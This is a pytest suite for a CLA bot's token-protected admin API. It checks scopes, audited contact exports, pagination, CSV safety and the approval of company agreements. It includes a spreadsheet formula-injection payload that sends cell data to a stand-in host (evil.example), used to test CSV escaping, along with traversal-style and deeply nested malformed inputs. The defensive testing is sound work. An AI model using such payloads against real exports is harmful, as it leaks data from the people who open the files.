"""/api/v1: bearer tokens on every operation (401 without, 403 below scope), contact fields only
with ``export`` and audited, cursor pagination, a CSV a spreadsheet opens cleanly, emails only
in bodies, ``last_used_at`` moving."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from aiohttp import web
from sqlalchemy import select

from bot.services.admin import tokens
from bot.storage.identity_keys import domain_key, email_identity_key
from bot.storage.models import ApiToken, AuditEvent, Job, PrBlocker, PrCheck, Repository, Signer
from bot.storage.pr_checks import replace_contributors
from bot.storage.signatures import NewSignature, record_signature
from bot.web import admin as admin_api
from bot.web import openapi
from bot.web.app import create_app
from bot.web.keys import CIPHER, SESSIONS
from tests.helpers import sign_company

T0 = datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

# (method, path, JSON body, the scope it needs)
OPERATIONS: list[tuple[str, str, Any, str]] = [
    ("GET", "/api/v1/accounts/github/583231", None, "read"),
    ("GET", "/api/v1/accounts/github/octocat", None, "read"),
    ("POST", "/api/v1/emails/status", {"email": "mona@example.com"}, "read"),
    ("GET", "/api/v1/prs/github/acme/widgets/7", None, "read"),
    ("GET", "/api/v1/agreements", None, "read"),
    ("GET", "/api/v1/signatures", None, "read"),
    ("GET", "/api/v1/signatures?include_contact=true", None, "export"),
    ("GET", "/api/v1/signatures.csv", None, "export"),
    ("POST", "/api/v1/prs/github/acme/widgets/7/recheck", None, "admin"),
    ("POST", "/api/v1/repos/github/acme/widgets/recheck", None, "admin"),
    ("GET", "/api/v1/companies", None, "read"),
    ("GET", "/api/v1/companies?pending=true", None, "read"),
    ("GET", "/api/v1/companies/1", None, "read"),
    ("POST", "/api/v1/companies/1/approve", None, "admin"),
    ("POST", "/api/v1/companies/1/reject", {"reason": "not the company"}, "admin"),
]


def api_app(settings: Any) -> web.Application:
    app = create_app(settings, run_worker=False, clients={})
    wired = any(r.get_info().get("path") == "/api/v1/openapi.json" for r in app.router.resources())
    if not wired:  # until bot/web/app.py calls admin.setup(app) itself
        admin_api.setup(app)
    return app


@pytest.fixture
async def api(aiohttp_client: Any, db_url: str, make_settings: Any) -> Any:
    app = api_app(make_settings(db_url))
    client = await aiohttp_client(app)
    cipher = app[CIPHER]
    async with app[SESSIONS]() as s, s.begin():
        for account_id, login, email, name in (
            ("583231", "octocat", "Mona@Example.com", "Mona Lisa Octocat"),
            ("1001", "evil", "evil@example.net", EVIL_NAME),
        ):
            await record_signature(
                s,
                cipher,
                NewSignature(
                    platform="github",
                    account_id=account_id,
                    login=login,
                    email=email,
                    name=name,
                    agreement_id="individual",
                    version="1.0",
                    signed_at=T0,
                    source="web",
                ),
            )
        check = PrCheck(
            platform="github",
            repo_full_name="acme/widgets",
            number=7,
            head_sha="f" * 40,
            outcome="blocked",
            installation_id=3,
        )
        s.add(check)
        s.add(Repository(platform="github", full_name="acme/widgets", installation_id=3))
        await s.flush()
        await replace_contributors(
            s,
            check,
            {
                "github:583231": False,
                email_identity_key(cipher, "x@y.org"): True,
            },
        )
        await sign_company(
            s, cipher, fields={"name": "Maria Canary"}, domains=["y.org", "example.net"]
        )
    client.tokens = {}
    async with app[SESSIONS]() as s, s.begin():
        for scope in tokens.SCOPES:
            value, _ = await tokens.create_token(s, name=f"{scope} token", scope=scope)
            client.tokens[scope] = value
        revoked, info = await tokens.create_token(s, name="old", scope="admin")
        await tokens.revoke_token(s, info.prefix)
        client.tokens["revoked"] = revoked
    return client


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def call(client: Any, method: str, path: str, body: Any, headers: dict[str, str]) -> Any:
    if body is None:
        return await client.request(method, path, headers=headers)
    return await client.request(method, path, json=body, headers=headers)


@pytest.mark.parametrize(("method", "path", "body", "scope"), OPERATIONS)
async def test_every_operation_needs_a_live_token_of_enough_scope(
    api: Any, method: str, path: str, body: Any, scope: str
) -> None:
    wrong = "cla_" + "A" * 40
    for headers in (
        {},
        bearer(wrong),
        bearer(api.tokens["revoked"]),
        {"Authorization": f"Basic {api.tokens['admin']}"},
        {"Authorization": "Bearer"},
        bearer("not-a-token"),
    ):
        resp = await call(api, method, path, body, headers)
        assert resp.status == 401, (path, headers)
        assert resp.headers["WWW-Authenticate"].startswith("Bearer")
        assert "message" in await resp.json()
        assert resp.headers["Cache-Control"] == "no-store"
    for lower in tokens.SCOPES[: tokens.SCOPES.index(scope)]:
        resp = await call(api, method, path, body, bearer(api.tokens[lower]))
        assert resp.status == 403, (path, lower)
        assert "insufficient_scope" in resp.headers["WWW-Authenticate"]
    for enough in tokens.SCOPES[tokens.SCOPES.index(scope) :]:
        resp = await call(api, method, path, body, bearer(api.tokens[enough]))
        assert resp.status in (200, 202), (path, enough, await resp.text())
        assert resp.headers["Cache-Control"] == "no-store"


async def test_status_by_login_with_a_read_token(api: Any) -> None:
    resp = await api.get("/api/v1/accounts/github/OctoCat", headers=bearer(api.tokens["read"]))
    data = await resp.json()
    assert resp.status == 200
    assert data["covered"] is True and data["account"] == "github:583231"
    assert (data["agreement"], data["version"], data["kind"]) == ("individual", "1.0", "individual")
    assert data["since"] == "2024-01-02T03:04:05Z" and data["matched_by"] == "login"
    text = await resp.text()
    assert "mona" not in text.lower().replace("octocat", "")
    bad = await api.get("/api/v1/accounts/bitbucket/x", headers=bearer(api.tokens["read"]))
    assert bad.status == 404 and "message" in await bad.json()
    bad = await api.get("/api/v1/accounts/github/%20bad%20", headers=bearer(api.tokens["read"]))
    assert bad.status == 422
    bad = await api.get(
        "/api/v1/accounts/github/octocat?agreement=nope", headers=bearer(api.tokens["read"])
    )
    assert bad.status == 404


async def test_email_status_in_the_body_any_case(api: Any) -> None:
    h = bearer(api.tokens["read"])
    hit = await api.post("/api/v1/emails/status", json={"email": "MONA@example.COM"}, headers=h)
    data = await hit.json()
    assert hit.status == 200 and data["covered"] is True and data["subject"] == "email"
    assert "mona@" not in (await hit.text()).lower()
    miss = await api.post("/api/v1/emails/status", json={"email": "no@example.com"}, headers=h)
    assert (await miss.json())["covered"] is False
    for body, status in (
        (b"{not json", 400),
        (b"\xff\xfe", 400),
        (b"[]", 422),
        (b'{"email": 5}', 422),
        (b'{"email": "nope"}', 422),
        (b'{"email": "a@b.co", "agreement": "../x"}', 422),
    ):
        resp = await api.post(
            "/api/v1/emails/status",
            data=body,
            headers={**h, "Content-Type": "application/json"},
        )
        assert resp.status == status, body
        assert "message" in await resp.json()
    resp = await api.post("/api/v1/emails/status", data=b"a@b.co", headers=h)
    assert resp.status == 415


def test_no_url_the_api_defines_carries_an_email() -> None:
    doc = openapi.document()
    for path, item in doc["paths"].items():
        assert "email" not in re.sub(r"/api/v1/emails/status$", "", path)
        for op in item.values():
            for param in op.get("parameters", []):
                assert "email" not in param["name"].lower(), (path, param["name"])
    body = doc["paths"]["/api/v1/emails/status"]["post"]["requestBody"]
    assert "email" in body["content"]["application/json"]["schema"]["required"]


async def test_pr_status_shows_identity_keys_never_emails(api: Any) -> None:
    resp = await api.get("/api/v1/prs/github/Acme/Widgets/7", headers=bearer(api.tokens["read"]))
    data = await resp.json()
    assert resp.status == 200 and data["head_sha"] == "f" * 40 and data["outcome"] == "blocked"
    identities = {c["identity"] for c in data["contributors"]}
    assert identities == {"github:583231", "email (not linked)"}
    assert "x@y.org" not in await resp.text()
    for path, status in (
        ("/api/v1/prs/github/acme/widgets/8", 404),
        ("/api/v1/prs/github/acme/widgets/0", 422),
        ("/api/v1/prs/github/acme/widgets/abc", 422),
        ("/api/v1/prs/github/acme/widgets/99999999999999999999", 422),
        ("/api/v1/prs/gitlab/acme/widgets/1", 404),
    ):
        resp = await api.get(path, headers=bearer(api.tokens["read"]))
        assert resp.status == status, path


async def test_contact_fields_need_export_and_every_read_is_audited(api: Any) -> None:
    path = "/api/v1/signatures?include_contact=true"
    denied = await api.get(path, headers=bearer(api.tokens["read"]))
    assert denied.status == 403
    plain = await api.get("/api/v1/signatures", headers=bearer(api.tokens["read"]))
    assert all("contact" not in item for item in (await plain.json())["items"])
    assert "Mona Lisa" not in await plain.text()
    app = api.server.app
    async with app[SESSIONS]() as s:
        assert (
            await s.scalars(select(AuditEvent).where(AuditEvent.action == "read-contact"))
        ).all() == []
    resp = await api.get(path, headers=bearer(api.tokens["export"]))
    assert resp.status == 200
    items = (await resp.json())["items"]
    names = {item["contact"]["name"] for item in items}
    assert "Mona Lisa Octocat" in names
    assert ["Mona@Example.com"] in [item["contact"]["emails"] for item in items]
    prefix = api.tokens["export"][:12]
    async with app[SESSIONS]() as s:
        events = (
            await s.scalars(select(AuditEvent).where(AuditEvent.action == "read-contact"))
        ).all()
        signers = set((await s.scalars(select(Signer.id))).all())
    assert {e.signer_id for e in events} == signers and len(events) == len(signers)
    assert {(e.actor, e.via) for e in events} == {(f"token:{prefix}", "api")}
    assert {e.request_id for e in events} == {resp.headers["X-Request-Id"]}
    assert all("Mona" not in json.dumps(e.details) for e in events)


async def test_pagination_with_cursor_returns_everything_once(api: Any) -> None:
    app = api.server.app
    async with app[SESSIONS]() as s, s.begin():
        for i in range(9):
            await record_signature(
                s,
                app[CIPHER],
                NewSignature(
                    platform="gitee",
                    account_id=str(500 + i),
                    login=f"g{i}",
                    email=None,
                    name=None,
                    agreement_id="individual",
                    version="1.0",
                    signed_at=T0,
                    source="import",
                ),
            )
    h = bearer(api.tokens["read"])
    ids: list[int] = []
    url = "/api/v1/signatures?agreement=individual&version=1.0&limit=4"
    cursor = None
    while True:
        resp = await api.get(url + (f"&cursor={cursor}" if cursor is not None else ""), headers=h)
        assert resp.status == 200
        page = await resp.json()
        ids.extend(item["id"] for item in page["items"])
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert len(ids) == 11 and len(set(ids)) == 11 and ids == sorted(ids)
    for query, status in (
        ("limit=0", 422),
        ("limit=501", 422),
        ("limit=x", 422),
        ("cursor=-1", 422),
        ("include_contact=maybe", 422),
        ("version=1.0", 422),
        ("agreement=nope", 404),
        ("agreement=individual&version=7", 404),
    ):
        resp = await api.get(f"/api/v1/signatures?{query}", headers=h)
        assert resp.status == status, query


async def test_csv_export_opens_cleanly_in_a_spreadsheet(api: Any) -> None:
    resp = await api.get(
        "/api/v1/signatures.csv?agreement=individual&include_contact=true",
        headers=bearer(api.tokens["export"]),
    )
    assert resp.status == 200
    assert resp.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in resp.headers["Content-Disposition"]
    raw = await resp.read()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in raw and b"\n" not in raw.replace(b"\r\n", b"")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == 2
    names = {r["name"] for r in rows}
    assert "'" + EVIL_NAME in names and EVIL_NAME not in names
    assert {r["email"] for r in rows} == {"Mona@Example.com", "evil@example.net"}
    assert {r["accounts"] for r in rows} == {"github:583231", "github:1001"}
    async with api.server.app[SESSIONS]() as s:
        events = (
            await s.scalars(select(AuditEvent).where(AuditEvent.action == "read-contact"))
        ).all()
    assert len(events) == 2
    plain = await api.get("/api/v1/signatures.csv", headers=bearer(api.tokens["export"]))
    text = (await plain.read()).decode("utf-8-sig")
    assert "Mona Lisa" not in text and "name" not in text.splitlines()[0]


async def test_last_used_at_moves(api: Any) -> None:
    app = api.server.app
    token = api.tokens["read"]

    async def last_used() -> datetime | None:
        async with app[SESSIONS]() as s:
            row = (
                await s.scalars(
                    select(ApiToken).where(ApiToken.token_hash == tokens.token_hash(token))
                )
            ).one()
            return row.last_used_at

    assert await last_used() is None
    assert (await api.get("/api/v1/agreements", headers=bearer(token))).status == 200
    first = await last_used()
    assert first is not None
    async with app[SESSIONS]() as s, s.begin():
        row = (
            await s.scalars(select(ApiToken).where(ApiToken.token_hash == tokens.token_hash(token)))
        ).one()
        row.last_used_at = first - timedelta(minutes=5)
    assert (await api.get("/api/v1/agreements", headers=bearer(token))).status == 200
    moved = await last_used()
    assert moved is not None and moved > first - timedelta(minutes=5)


async def test_rechecks_queue_jobs_with_an_admin_token(api: Any) -> None:
    h = bearer(api.tokens["admin"])
    resp = await api.post("/api/v1/prs/github/acme/widgets/7/recheck", headers=h)
    assert resp.status == 202 and await resp.json() == {"queued": 1, "known": True}
    resp = await api.post("/api/v1/prs/github/acme/widgets/99/recheck", headers=h)
    assert resp.status == 202 and await resp.json() == {"queued": 1, "known": False}
    resp = await api.post("/api/v1/repos/github/acme/widgets/recheck", headers=h)
    assert resp.status == 202 and (await resp.json())["queued"] == 1
    resp = await api.post("/api/v1/prs/github/nobody/nothing/1/recheck", headers=h)
    assert resp.status == 404
    async with api.server.app[SESSIONS]() as s:
        keys = [j.pr_key for j in (await s.scalars(select(Job).order_by(Job.id))).all()]
    assert keys == ["github:acme/widgets#7", "github:acme/widgets#99", "github:acme/widgets#7"]


async def test_openapi_document_is_public_and_describes_every_route(api: Any) -> None:
    resp = await api.get("/api/v1/openapi.json")
    assert resp.status == 200
    doc = await resp.json()
    assert doc["openapi"].startswith("3.1")
    assert doc["components"]["securitySchemes"]["bearerAuth"]["scheme"] == "bearer"
    routes = set()
    for r in api.server.app.router.routes():
        info = r.resource.get_info() if r.resource else {}
        path = info.get("path") or info.get("formatter")
        if path and path.startswith("/api/v1/") and r.method != "HEAD":
            routes.add((r.method.lower(), path))
    documented = {(m, p) for p, item in doc["paths"].items() for m in item}
    assert routes == documented
    for path, item in doc["paths"].items():
        for method, op in item.items():
            if op.get("security") == []:
                continue
            for code in ("401", "403"):
                assert code in op["responses"], (method, path, code)
            assert "WWW-Authenticate" in op["responses"]["401"]["headers"]


async def test_administrators_decide_on_corporate_clas(api: Any) -> None:
    read, adm = bearer(api.tokens["read"]), bearer(api.tokens["admin"])
    listing = await (await api.get("/api/v1/companies?pending=1", headers=read)).json()
    assert [(c["id"], c["name"], c["status"]) for c in listing["items"]] == [
        (1, "Example Corp", "pending")
    ]
    assert "canary" not in json.dumps(listing).lower()
    async with api.server.app[SESSIONS]() as s, s.begin():  # x@y.org's domain blocks PR 7
        check = await s.scalar(select(PrCheck).where(PrCheck.number == 7))
        assert check is not None
        s.add(
            PrBlocker(
                pr_check_id=check.id, identity_key=domain_key(api.server.app[CIPHER], "y.org")
            )
        )
    resp = await api.post("/api/v1/companies/1/approve", headers=adm)
    decision = await resp.json()
    assert resp.status == 200 and decision["changed"] is True and decision["rechecks"] == 1
    assert decision["company"]["status"] == "approved" and decision["refused"] == []
    assert [d["status"] for d in decision["company"]["domains"]] == ["approved", "approved"]
    assert await (await api.get("/api/v1/companies?pending=true", headers=read)).json() == {
        "items": []
    }
    resp = await api.post(
        "/api/v1/companies/1/reject",
        json={"reason": "another firm's domain", "domain": "EXAMPLE.net"},
        headers=adm,
    )
    assert resp.status == 200
    shown = await (await api.get("/api/v1/companies/1", headers=read)).json()
    assert (shown["status"], shown["decided_by"]) == (
        "approved",
        f"token:{api.tokens['admin'][:12]}",
    )
    assert shown["domains"] == [
        {"domain": "y.org", "status": "approved", "reason": None, "proven": False},
        {
            "domain": "example.net",
            "status": "rejected",
            "reason": "another firm's domain",
            "proven": False,
        },
    ]
    async with api.server.app[SESSIONS]() as s:
        events = (
            await s.scalars(
                select(AuditEvent)
                .where(AuditEvent.action.in_(["company-approve", "company-reject"]))
                .order_by(AuditEvent.id)
            )
        ).all()
    assert [(e.action, e.actor, e.via) for e in events] == [
        ("company-approve", f"token:{api.tokens['admin'][:12]}", "api"),
        ("company-reject", f"token:{api.tokens['admin'][:12]}", "api"),
    ]


async def test_bad_company_requests_get_4xx_and_change_nothing(api: Any) -> None:
    adm = bearer(api.tokens["admin"])
    for method, path, body, status in (
        ("GET", "/api/v1/companies/2", None, 404),
        ("GET", "/api/v1/companies/x", None, 422),
        ("GET", "/api/v1/companies/0", None, 422),
        ("GET", "/api/v1/companies?pending=maybe", None, 422),
        ("POST", "/api/v1/companies/99/approve", None, 404),
        ("POST", "/api/v1/companies/1/reject", {}, 422),
        ("POST", "/api/v1/companies/1/reject", {"reason": " "}, 422),
        ("POST", "/api/v1/companies/1/reject", {"reason": 5}, 422),
        ("POST", "/api/v1/companies/1/reject", {"reason": "x", "domain": 1}, 422),
        ("POST", "/api/v1/companies/1/reject", {"reason": "x", "domain": "gone.org"}, 404),
        ("POST", "/api/v1/companies/1/reject", [], 422),
    ):
        resp = await call(api, method, path, body, adm)
        assert resp.status == status, (method, path, body)
        assert "message" in await resp.json()
    resp = await api.post("/api/v1/companies/1/reject", data=b"reason", headers=adm)
    assert resp.status == 415
    nested = b"[" * 100_000
    resp = await api.post(
        "/api/v1/companies/1/reject",
        data=nested[:16000],
        headers={**adm, "Content-Type": "application/json"},
    )
    assert resp.status == 400
    shown = await (await api.get("/api/v1/companies/1", headers=adm)).json()
    assert shown["status"] == "pending" and shown["decided_at"] is None
